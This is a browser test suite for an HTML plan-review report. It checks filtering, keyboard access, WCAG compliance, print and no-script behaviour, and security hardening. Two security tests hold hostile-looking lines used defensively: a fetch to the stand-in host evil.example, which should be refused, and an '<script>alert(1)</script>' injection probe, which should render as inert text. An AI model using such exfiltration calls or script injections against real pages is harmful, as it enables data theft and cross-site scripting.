import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { AxeBuilder } from '@axe-core/playwright';
import { type Browser, type BrowserContextOptions, type Page } from 'playwright-core';
import { launchBrowser } from '../../../testing/browser';
import { wholeHostileReview } from '../../../testing/hostile-review';
import { sampleReview } from '../../../testing/sample-review';
import { renderHtml } from './html';

const WCAG = ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa'];

describe('the page, in a real browser', () => {
  let folder: string;
  let browser: Browser;
  /** What the page asked for, and what it complained about. */
  let requests: string[];
  let complaints: string[];

  beforeAll(async () => {
    folder = mkdtempSync(join(tmpdir(), 'plan-review-'));
    writeFileSync(join(folder, 'review.html'), renderHtml(sampleReview()));
    writeFileSync(join(folder, 'hostile.html'), renderHtml(wholeHostileReview()));
    browser = await launchBrowser();
  });
  afterAll(async () => {
    await browser.close();
    rmSync(folder, { recursive: true });
  });

  afterEach(() => Promise.all(browser.contexts().map((context) => context.close())));

  async function open(name = 'review.html', options: BrowserContextOptions = {}): Promise<Page> {
    requests = [];
    complaints = [];
    const context = await browser.newContext({ viewport: { width: 1280, height: 900 }, ...options });
    const page = await context.newPage();
    page.on('request', (request) => requests.push(request.url()));
    page.on('console', (message) => complaints.push(message.text()));
    page.on('pageerror', (error) => complaints.push(error.message));
    page.on('dialog', (dialog) => complaints.push(dialog.message()));
    await page.goto(pathToFileURL(join(folder, name)).href);
    return page;
  }

  const visibleRows = (page: Page): Promise<string[]> => page.locator('.access tbody tr:visible th').allInnerTexts();

  it('shows who may call what, before and after, and asks for nothing but itself', async () => {
    const page = await open();
    const cells = page.locator('.access tbody tr').first().locator('th, td');
    expect((await cells.allInnerTexts()).map((text) => text.trim())).toEqual([
      'GET /me',
      'opened',
      'signed-in user (ID token)',
      '→',
      'anyone',
      'dev, prod',
    ]);
    expect(await page.locator('.verdict').innerText()).toBe('2 critical, 1 high, 1 medium; 1 stack not fully reviewed');
    expect(requests).toEqual([page.url()]);
    expect(complaints).toEqual([]);
  });

  it('cannot send anything anywhere even if something in it tried', async () => {
    const page = await open();
    const sent = await page.evaluate(() =>
      fetch('https://evil.example/').then(
        () => 'sent',
        () => 'refused',
      ),
    );
    expect(sent).toBe('refused');
    expect(requests).toEqual([page.url()]);
  });

  it('is filtered by words, from the keyboard alone', async () => {
    const page = await open();
    await page.keyboard.press('/');
    await page.keyboard.type('reports/write');
    expect(await visibleRows(page)).toEqual(['PUT /reports/{id}']);
    expect(await page.locator('#filter-result').innerText()).toMatch(/^\d+ of \d+ shown$/);
    await page.keyboard.press('Escape');
    expect(await visibleRows(page)).toHaveLength(4);
    expect(await page.locator('#filter-result').innerText()).toBe('');
  });

  it('is filtered by severity, and keeps the cause of what it shows', async () => {
    const page = await open();
    const high = page.getByRole('button', { name: 'high' });
    await high.focus();
    await page.keyboard.press('Space');
    expect(await high.getAttribute('aria-pressed')).toBe('true');
    expect(await page.locator('.card:visible h3').allInnerTexts()).toEqual(['user pool people']);
    expect(await page.locator('.card li:visible').count()).toBe(1);
  });

  it('leads from the graph to a change, also where it is folded away', async () => {
    const page = await open();
    await page.locator('details.stack').first().locator('summary').first().click();
    const node = page.locator('svg a').filter({ hasText: 'users' }).first();
    await node.focus();
    await page.keyboard.press('Enter');
    const target = page.locator(`[id="${(await node.getAttribute('href'))?.slice(1)}"]`);
    expect(await target.isVisible()).toBe(true);
    expect(await target.innerText()).toContain('aws_cognito_user_pool.users');
  });

  it('is reached by Tab in the order of the page, and shows where it is', async () => {
    const page = await open();
    const seen: string[] = [];
    for (let presses = 0; presses < 4; presses++) {
      await page.keyboard.press('Tab');
      seen.push(
        await page.evaluate(() => {
          const at = document.activeElement;
          const outline = at ? getComputedStyle(at).outlineStyle : 'none';
          return `${at?.id || at?.textContent} ${outline === 'none' ? 'invisible' : 'visible'}`;
        }),
      );
    }
    expect(seen).toEqual(['Skip to the review visible', 'filter visible', 'critical visible', 'high visible']);
  });

  it.each(['light', 'dark'] as const)('meets WCAG 2.1 AA in %s, as axe-core checks it', async (colorScheme) => {
    const page = await open('review.html', { colorScheme });
    const back = await page.evaluate(() => getComputedStyle(document.body).backgroundColor);
    expect(back).toBe(colorScheme === 'dark' ? 'rgb(15, 19, 24)' : 'rgb(246, 247, 249)');
    const { violations } = await new AxeBuilder({ page }).withTags(WCAG).analyze();
    expect(violations.map(({ id, nodes }) => [id, nodes.map(({ html }) => html)])).toEqual([]);
  });

  it('fits a telephone without scrolling sideways', async () => {
    const page = await open('review.html', { viewport: { width: 390, height: 800 } });
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(390);
  });

  it('works without its script, and prints what is folded', async () => {
    const page = await open('review.html', { javaScriptEnabled: false });
    expect(await page.locator('.access tbody tr').count()).toBe(4);
    const printed = await open();
    await printed.evaluate(() => dispatchEvent(new Event('beforeprint')));
    expect(await printed.locator('details:not([open])').count()).toBe(0);
  });

  it('runs, loads and shows nothing of what hostile names try', async () => {
    const page = await open('hostile.html');
    expect(await page.locator('script').count()).toBe(1);
    expect(await page.locator('img, iframe, object, embed, form, link, base').count()).toBe(0);
    expect(
      await page
        .locator('a[href]')
        .evaluateAll((links) => links.filter((link) => !link.getAttribute('href')?.startsWith('#')).length),
    ).toBe(0);
    expect(await page.locator('main').innerText()).toContain('<script>alert(1)</script>');
    expect(complaints).toEqual([]);
    expect(requests).toEqual([page.url()]);
  });
});
